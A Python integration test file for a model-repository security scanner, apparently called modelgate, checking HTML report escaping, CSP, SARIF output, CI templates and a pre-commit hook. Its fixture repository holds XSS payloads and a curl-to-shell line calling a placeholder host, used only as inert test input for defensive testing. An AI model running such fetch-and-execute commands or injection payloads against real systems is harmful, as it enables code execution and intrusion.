"""The report and integration surfaces of issue #15: the HTML report (escaping of hostile repository
strings, a strict CSP, rendered in a real headless Chromium), SARIF as GitHub code scanning reads it,
the CI templates in docs/ci/ (parsed as YAML, their modelgate command lines run for real), and the
pre-commit hook in .pre-commit-hooks.yaml (its entry run on a file list as pre-commit would).

usage: integrations_test.py MODELGATE SOURCE_DIR SARIF_SCHEMA GROUP
GROUP: Html | HtmlChromium | Sarif | CiTemplates | PreCommit. Exit 77 = SKIP (Chromium cannot start).
"""
import glob
import html.parser
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
import unittest
import urllib.parse

MODELGATE, SOURCE, SARIF_SCHEMA, GROUP = sys.argv[1:5]
MODELGATE = os.path.abspath(MODELGATE)
EXAMPLES = os.path.join(SOURCE, "examples")
SKIP = 77


def scan(*args, cwd=None, check_codes=(0, 1, 2)):
    p = subprocess.run([MODELGATE, "scan", "--quiet", *args], capture_output=True, text=True, cwd=cwd, timeout=600)
    assert p.returncode in check_codes, (args, p.returncode, p.stderr)
    return p


# A repository whose names, code and config values try to inject markup into a report. Inert: the
# payloads only call alert() or a canary host under .invalid, and nothing here is ever run.
HOSTILE_MODULE = '''import os
BANNER = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"


class XModel:
    def __init__(self):
        os.system("curl http://canary.invalid/'\\"</script><img src=x onerror=alert(3)> | sh")
'''


def make_hostile_repo(root):
    os.makedirs(root)
    with open(os.path.join(root, "config.json"), "w") as f:
        json.dump({"model_type": "x\"><img src=x onerror=alert(5)>",
                   "auto_map": {"AutoModel": "modeling_x.XModel",
                                "AutoConfig": "<svg onload=alert(6)>.Cfg"}}, f)
    with open(os.path.join(root, "modeling_x.py"), "w") as f:
        f.write(HOSTILE_MODULE)
    # File names cannot hold '/', but may hold every other markup character.
    with open(os.path.join(root, "<img src=x onerror=alert(4)>'\".py"), "w") as f:
        f.write("import subprocess\nsubprocess.call(\"</title></style><b>x\", shell=True)\n")


# What the page may contain: our own elements, and nothing a repository string could add.
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "span", "a", "table", "thead",
                "tbody", "tr", "th", "td", "code", "pre", "div", "strong", "em", "ul", "li", "section", "article", "form",
                "fieldset", "legend", "label", "input", "script", "svg", "g", "rect", "text", "path", "polygon"}


class TagCollector(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attrs = []
        self.scripts = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)
        self._in_script = tag == "script"
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


class Html(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="mg-html-")
        self.repo = os.path.join(self.tmp, "hostile")
        make_hostile_repo(self.repo)
        self.page_path = os.path.join(self.tmp, "report.html")
        scan(self.repo, os.path.join(EXAMPLES, "malicious-pickle"), "--format", "html", "--output", self.page_path)
        with open(self.page_path, encoding="utf-8") as f:
            self.page = f.read()
        self.report = json.loads(scan(self.repo, os.path.join(EXAMPLES, "malicious-pickle"), "--format", "json").stdout)

    def tearDown(self):
        shutil.rmtree(self.tmp)

    def test_no_injected_markup(self):
        p = TagCollector()
        p.feed(self.page)
        p.close()
        self.assertLessEqual(set(p.tags), ALLOWED_TAGS, "elements the report never writes")
        self.assertNotIn("img", p.tags)
        self.assertEqual([a for a, _ in p.attrs if a.lower().startswith("on")], [], "event handler attributes")
        self.assertEqual(p.tags.count("script"), 1, "one script: the report's own")
        self.assertNotIn("alert", p.scripts[0])
        self.assertNotIn("<img", self.page)
        self.assertNotIn("<svg onload", self.page)
        self.assertNotIn("</script><script>", self.page)
        # The hostile strings are there, as text.
        self.assertIn("&lt;img src=x onerror=alert(4)&gt;&#39;&quot;.py", self.page)
        self.assertIn("&lt;/script&gt;&lt;img src=x onerror=alert(3)&gt;", self.page)
        self.assertIn("&lt;svg onload=alert(6)&gt;", self.page)

    def test_strict_csp_and_self_contained(self):
        m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', self.page)
        self.assertIsNotNone(m)
        csp = m.group(1)
        self.assertIn("default-src 'none'", csp)
        self.assertNotIn("unsafe-inline", csp)
        self.assertRegex(csp, r"script-src 'sha256-[A-Za-z0-9+/]+=*'")
        # Nothing is loaded from elsewhere at view time.
        self.assertIsNone(re.search(r'(src|href)="(https?:)?//', self.page))
        self.assertNotIn("@import", self.page)
        self.assertNotIn("url(", self.page)

    def test_content(self):
        targets = self.report["targets"]
        self.assertEqual(self.page.count('<section class="target"'), len(targets))
        findings = [f for t in targets for f in t["findings"]]
        self.assertGreater(len(findings), 3)
        self.assertEqual(self.page.count('<article class="finding'), len(findings))
        for f in findings:  # every finding names its rule and links to its documentation
            self.assertIn('href="#rule-%s"' % f["rule_id"], self.page)
        for rule in {f["rule_id"] for f in findings}:
            self.assertIn('id="rule-%s"' % rule, self.page)
            explain = subprocess.run([MODELGATE, "explain", rule], capture_output=True, text=True).stdout
            first_doc_line = next(l for l in explain.splitlines()[3:] if l.strip())
            self.assertIn(html_escape(first_doc_line), self.page, rule)
        # Verdicts and triggers.
        for t in targets:
            self.assertIn('<span class="sev sev-%s">%s</span>' % (t["verdict"], t["verdict"]), self.page)
        self.assertIn("auto_map.AutoModel", self.page)
        # Load paths and evidence drawn as graphs: one box per step.
        with_path = [f for f in findings if f.get("reach_path")]
        self.assertTrue(with_path)
        self.assertGreaterEqual(self.page.count("<strong>Load path</strong>"), len(with_path))
        self.assertGreaterEqual(self.page.count('<svg class="flow"'), len(with_path))
        self.assertGreater(self.page.count("<rect"), sum(len(f["reach_path"]) for f in with_path))
        # Filters for every severity and engine present, hidden until the script runs.
        self.assertIn('<form id="filters" hidden>', self.page)
        for engine in {f["engine"] for f in findings}:
            self.assertIn('name="engine" value="%s"' % engine, self.page)
        for f in findings:
            self.assertRegex(self.page, r'class="finding s-%s" data-severity="%s" data-engine="%s"' %
                             (f["severity"], f["severity"], f["engine"]))

    def test_clean_and_partial(self):
        page = scan(os.path.join(EXAMPLES, "clean-safetensors"), os.path.join(self.tmp, "missing"), "--format", "html").stdout
        self.assertIn("No findings.", page)
        self.assertIn('<span class="sev sev-clean">clean</span>', page)
        self.assertIn("Partial analysis", page)
        self.assertNotIn('<form id="filters"', page)  # nothing to filter


def html_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&#39;")


class HtmlChromium(unittest.TestCase):
    def test_renders_in_headless_chromium(self):
        chromium = shutil.which("chromium") or shutil.which("chromium-browser")
        if not chromium:
            print("SKIP: chromium is not installed (Debian package chromium; scripts/bootstrap --dev)")
            sys.exit(SKIP)
        tmp = tempfile.mkdtemp(prefix="mg-html-chromium-")
        try:
            make_hostile_repo(os.path.join(tmp, "hostile"))
            page = os.path.join(tmp, "report.html")
            scan(os.path.join(tmp, "hostile"), *sorted(glob.glob(os.path.join(EXAMPLES, "*"))), "--format", "html", "--output", page)
            url = "file://" + page
            base = [chromium, "--headless", "--disable-gpu", "--no-sandbox", "--no-first-run", "--disable-extensions",
                    "--user-data-dir=" + os.path.join(tmp, "profile"), "--enable-logging=stderr", "--v=0"]
            try:
                dom = subprocess.run(base + ["--dump-dom", url], capture_output=True, text=True, timeout=120)
            except (OSError, subprocess.TimeoutExpired) as e:
                print("SKIP: chromium cannot start here: %s" % e)
                sys.exit(SKIP)
            if dom.returncode != 0 or "<html" not in dom.stdout:
                print("SKIP: chromium cannot start here (exit %d): %s" % (dom.returncode, dom.stderr[-500:]))
                sys.exit(SKIP)
            # No console errors: a CSP refusal (a wrong hash, an injected handler) would be one.
            self.assertEqual([l for l in dom.stderr.splitlines() if "CONSOLE" in l or "Uncaught" in l], [])
            # The script ran under the CSP: the filters are shown and count the findings.
            self.assertIn('<form id="filters">', dom.stdout)
            n = dom.stdout.count('<article class="finding')
            self.assertGreater(n, 20)
            self.assertIn("%d of %d findings shown" % (n, n), dom.stdout)
            self.assertNotIn("<img", dom.stdout)
            # JavaScript off: the served page itself has every finding and the filters hidden
            # (Html.test_content); Chromium's --blink-settings=scriptEnabled=false gives no DOM dump.
            shot = os.path.join(tmp, "shot.png")
            s = subprocess.run(base + ["--screenshot=" + shot, "--window-size=1200,1600", url], capture_output=True, text=True,
                               timeout=120)
            self.assertEqual(s.returncode, 0, s.stderr[-2000:])
            self.assertEqual([l for l in s.stderr.splitlines() if "CONSOLE" in l or "Uncaught" in l], [])
            with open(shot, "rb") as f:
                png = f.read()
            self.assertEqual(png[:8], b"\x89PNG\r\n\x1a\n")
            # Not blank: text, tables and graphs compress far worse than a white page.
            import zlib
            self.assertGreater(len(png), 8 * len(zlib.compress(b"\xff" * 1200 * 3 * 10)))
            self.assertGreater(len(png), 20000)
        finally:
            shutil.rmtree(tmp)


SECURITY_SEVERITY = re.compile(r"^(10(\.0+)?|[0-9](\.[0-9]+)?)$")


class Sarif(unittest.TestCase):
    """SARIF as GitHub code scanning's upload validates and displays it."""

    @classmethod
    def setUpClass(cls):
        import jsonschema
        cls.tmp = tempfile.mkdtemp(prefix="mg-sarif-")
        # A checkout: scanned from its root with relative targets, as the CI templates do.
        cls.root = os.path.join(cls.tmp, "checkout")
        shutil.copytree(EXAMPLES, os.path.join(cls.root, "models"))
        make_hostile_repo(os.path.join(cls.root, "models", "hostile dir #1"))
        cls.targets = sorted(os.path.relpath(p, cls.root) for p in glob.glob(os.path.join(cls.root, "models", "*")))
        cls.sarif = json.loads(scan("--format", "sarif", *cls.targets, cwd=cls.root).stdout)
        cls.report = json.loads(scan("--format", "json", *cls.targets, cwd=cls.root).stdout)
        with open(SARIF_SCHEMA) as f:
            jsonschema.validate(cls.sarif, json.load(f))
        cls.sarif_run = cls.sarif["runs"][0]
        cls.rules = {r["id"]: r for r in cls.sarif_run["tool"]["driver"]["rules"]}

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp)

    def test_rules(self):
        from_registry = subprocess.run([MODELGATE, "rules", "--format", "json"], capture_output=True, text=True)
        for rule in self.rules.values():
            self.assertRegex(rule["id"], r"^[A-Z]+[0-9]+$")
            self.assertTrue(rule["shortDescription"]["text"])
            self.assertLessEqual(len(rule["shortDescription"]["text"]), 1024)
            self.assertTrue(rule["help"]["text"] and rule["help"]["markdown"], rule["id"])
            props = rule["properties"]
            self.assertIn("security", props["tags"])
            for tag in props["tags"]:
                self.assertRegex(tag, r"^(security|external/cwe/cwe-[0-9]+)$")
            self.assertIsInstance(props["security-severity"], str)
            self.assertRegex(props["security-severity"], SECURITY_SEVERITY)
            self.assertIn(props["precision"], {"very-high", "high", "medium", "low"})
            self.assertIn(rule["defaultConfiguration"]["level"], {"error", "warning", "note", "none"})
        self.assertEqual(from_registry.returncode, 0)
        listed = json.loads(from_registry.stdout)
        self.assertEqual(sorted(r["id"] for r in listed), sorted(self.rules))
        for r in listed:  # CWE tags as GitHub reads them, from the rule's own CWE list
            self.assertEqual(sorted(t for t in self.rules[r["id"]]["properties"]["tags"] if t.startswith("external/")),
                             sorted("external/cwe/cwe-%d" % c for c in r["cwe"]))

    def test_results_map_to_files_of_the_checkout(self):
        findings = [f for t in self.report["targets"] for f in t["findings"]]
        results = self.sarif_run["results"]
        self.assertEqual(len(results), len(findings))
        self.assertGreater(len(results), 20)
        for r, f in zip(results, findings):
            self.assertEqual(r["ruleId"], f["rule_id"])
            self.assertIn(r["ruleId"], self.rules)
            self.assertIn(r["level"], {"error", "warning", "note", "none"})
            self.assertTrue(r["message"]["text"])
            self.assertTrue(r["partialFingerprints"]["modelgateFingerprint/v1"])
            loc = r["locations"][0]["physicalLocation"]["artifactLocation"]
            self.assertEqual(loc["uriBaseId"], "%SRCROOT%")
            self.assertNotRegex(loc["uri"], r"^([a-z]+:|/|\./|\.\./)")
            path = urllib.parse.unquote(loc["uri"])
            self.assertTrue(os.path.exists(os.path.join(self.root, path)), path)
            self.assertNotIn(" ", loc["uri"])
            if f["line"]:
                self.assertEqual(r["locations"][0]["physicalLocation"]["region"]["startLine"], f["line"])

    def test_code_flows(self):
        findings = [f for t in self.report["targets"] for f in t["findings"]]
        flows = evidence = 0
        for r, f in zip(self.sarif_run["results"], findings):
            expected = (1 if f.get("reach_path") else 0) + (1 if f.get("evidence") else 0)
            self.assertEqual(len(r.get("codeFlows", [])), expected, f["rule_id"])
            for cf in r.get("codeFlows", []):
                steps = cf["threadFlows"][0]["locations"]
                self.assertTrue(steps)
                for s in steps:
                    art = s["location"]["physicalLocation"]["artifactLocation"]
                    self.assertTrue(os.path.exists(os.path.join(self.root, urllib.parse.unquote(art["uri"]))), art["uri"])
                    self.assertTrue(s["location"]["message"]["text"])
                if cf["message"]["text"].startswith("load path"):
                    flows += 1
                    self.assertEqual([s["location"]["message"]["text"] for s in steps[:-1]], f["reach_path"])
                else:
                    evidence += 1
                    self.assertEqual([s["location"]["message"]["text"] for s in steps], [e["note"] for e in f["evidence"]])
        self.assertGreater(flows, 5)
        self.assertGreater(evidence, 0)

    def test_absolute_targets_are_file_uris(self):
        sarif = json.loads(scan("--format", "sarif", os.path.join(self.root, "models", "remote-code-model")).stdout)
        for r in sarif["runs"][0]["results"]:
            loc = r["locations"][0]["physicalLocation"]["artifactLocation"]
            self.assertTrue(loc["uri"].startswith("file:///"), loc["uri"])
            self.assertNotIn("uriBaseId", loc)
            self.assertTrue(os.path.exists(urllib.parse.unquote(loc["uri"][len("file://"):])))


def extract_scan_lines(text):
    return [l.strip() for l in text.splitlines() if re.search(r"(^|/)modelgate scan ", l.strip())]


class CiTemplates(unittest.TestCase):
    def setUp(self):
        import yaml
        self.tmp = tempfile.mkdtemp(prefix="mg-ci-")
        os.makedirs(os.path.join(self.tmp, ".modelgate", "build"))
        os.symlink(MODELGATE, os.path.join(self.tmp, ".modelgate", "build", "modelgate"))
        with open(os.path.join(SOURCE, "docs", "ci", "github-actions.yml")) as f:
            self.gha = yaml.safe_load(f)
        with open(os.path.join(SOURCE, "docs", "ci", "gitlab-ci.yml")) as f:
            self.gitlab = yaml.safe_load(f)

    def tearDown(self):
        shutil.rmtree(self.tmp)

    def bash(self, script, model, env_extra=None):
        shutil.rmtree(os.path.join(self.tmp, "models"), ignore_errors=True)
        shutil.copytree(os.path.join(EXAMPLES, model), os.path.join(self.tmp, "models"))
        env = dict(os.environ, MODEL_DIR="models", FAIL_ON="high", **(env_extra or {}))
        return subprocess.run(["bash", "-e", "-c", script], cwd=self.tmp, env=env, capture_output=True, text=True, timeout=600)

    def test_github_actions(self):
        self.assertIn(True, self.gha)  # PyYAML reads the `on:` key as True
        self.assertEqual(self.gha["permissions"]["security-events"], "write")
        steps = self.gha["jobs"]["scan"]["steps"]
        scan_step = next(s for s in steps if s.get("id") == "scan")
        upload = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/upload-sarif@"))
        self.assertEqual(upload.get("if"), "always()")
        self.assertIn("--output " + upload["with"]["sarif_file"], scan_step["run"])
        lines = extract_scan_lines(scan_step["run"])
        self.assertEqual(len(lines), 2)
        # The step as Actions runs it (bash, GITHUB_OUTPUT), on a malicious and a clean model.
        for model, code in (("malicious-remote-code", "1"), ("clean-safetensors", "0")):
            out = os.path.join(self.tmp, "github_output")
            open(out, "w").close()
            p = self.bash(scan_step["run"], model, {"GITHUB_OUTPUT": out})
            self.assertEqual(p.returncode, 0, p.stderr)
            with open(out) as f:
                self.assertEqual(f.read().strip(), "exit=" + code)
            with open(os.path.join(self.tmp, upload["with"]["sarif_file"])) as f:
                self.assertEqual(json.load(f)["version"], "2.1.0")
            with open(os.path.join(self.tmp, "modelgate.html")) as f:
                self.assertIn("<!DOCTYPE html>", f.read())
        gate = steps[-1]["run"].replace("${{ steps.scan.outputs.exit }}", "1")
        self.assertNotEqual(self.bash(gate, "clean-safetensors").returncode, 0)

    def test_gitlab(self):
        job = self.gitlab["modelgate"]
        self.assertIn("modelgate.sarif", job["artifacts"]["paths"])
        self.assertEqual(job["artifacts"]["when"], "always")
        self.assertEqual(len(extract_scan_lines("\n".join(job["script"]))), 3)
        # GitLab runs each script line in order and stops at the first non-zero exit.
        for model, code in (("malicious-remote-code", 1), ("clean-safetensors", 0)):
            p = self.bash("\n".join(job["script"]), model)
            self.assertEqual(p.returncode, code, p.stderr)
            for path in job["artifacts"]["paths"]:
                self.assertTrue(os.path.getsize(os.path.join(self.tmp, path)) > 100, path)

    def test_options_exist(self):
        help_text = subprocess.run([MODELGATE, "scan", "--help"], capture_output=True, text=True).stdout
        lines = extract_scan_lines(json.dumps(self.gha)) + extract_scan_lines("\n".join(self.gitlab["modelgate"]["script"]))
        for line in lines:
            for word in shlex.split(line.replace("\\n", "\n")):
                if word.startswith("--"):
                    self.assertIn(word, help_text, line)


class PreCommit(unittest.TestCase):
    def setUp(self):
        import yaml
        with open(os.path.join(SOURCE, ".pre-commit-hooks.yaml")) as f:
            hooks = yaml.safe_load(f)
        self.hook = next(h for h in hooks if h["id"] == "modelgate")
        self.files = re.compile(self.hook["files"])
        self.tmp = tempfile.mkdtemp(prefix="mg-pre-commit-")

    def tearDown(self):
        shutil.rmtree(self.tmp)

    def test_declaration(self):
        self.assertEqual(self.hook["language"], "system")
        self.assertIs(self.hook["pass_filenames"], True)
        self.assertEqual(shlex.split(self.hook["entry"])[:2], ["modelgate", "scan"])
        for name in ("modeling_x.py", "hubconf.py", "pytorch_model.bin", "model.PT", "w.pth", "last.ckpt", "m.joblib", "a.npy",
                     "a.npz", "m.h5", "m.keras", "m.gguf", "m.onnx", "model.safetensors", "config.json", "configs/x.yaml",
                     "y.yml", "tokenizer_config.json", "data.pkl", "model.nemo"):
            self.assertTrue(self.files.search(name), name)
        for name in ("README.md", "logo.png", "LICENSE", "notes.txt", "main.cpp"):
            self.assertFalse(self.files.search(name), name)

    def run_hook(self, model):
        # What pre-commit does: in the repository root, entry + the staged files that match.
        repo = os.path.join(self.tmp, model)
        shutil.copytree(os.path.join(EXAMPLES, model), repo)
        staged = sorted(os.path.relpath(os.path.join(d, n), repo) for d, _, ns in os.walk(repo) for n in ns)
        staged = [s for s in staged if self.files.search(s)]
        self.assertGreater(len(staged), 1)
        argv = shlex.split(self.hook["entry"])
        argv[0] = MODELGATE
        return subprocess.run(argv + staged, cwd=repo, capture_output=True, text=True, timeout=600), staged

    def test_malicious_files_fail_the_commit(self):
        p, staged = self.run_hook("malicious-remote-code")
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)
        self.assertRegex(p.stdout, r"%d targets, [1-9][0-9]* findings" % len(staged))
        self.assertIn("CRITICAL", p.stdout)

    def test_pickle_fails_the_commit(self):
        p, _ = self.run_hook("malicious-pickle")
        self.assertEqual(p.returncode, 1, p.stdout + p.stderr)

    def test_clean_files_pass(self):
        p, staged = self.run_hook("clean-safetensors")
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        self.assertIn("%d targets, 0 findings" % len(staged), p.stdout)


if __name__ == "__main__":
    groups = {"Html": Html, "HtmlChromium": HtmlChromium, "Sarif": Sarif, "CiTemplates": CiTemplates, "PreCommit": PreCommit}
    if GROUP not in groups:
        sys.exit("unknown group %s" % GROUP)
    suite = unittest.defaultTestLoader.loadTestsFromTestCase(groups[GROUP])
    result = unittest.TextTestRunner(verbosity=2).run(suite)
    sys.exit(0 if result.wasSuccessful() else 1)
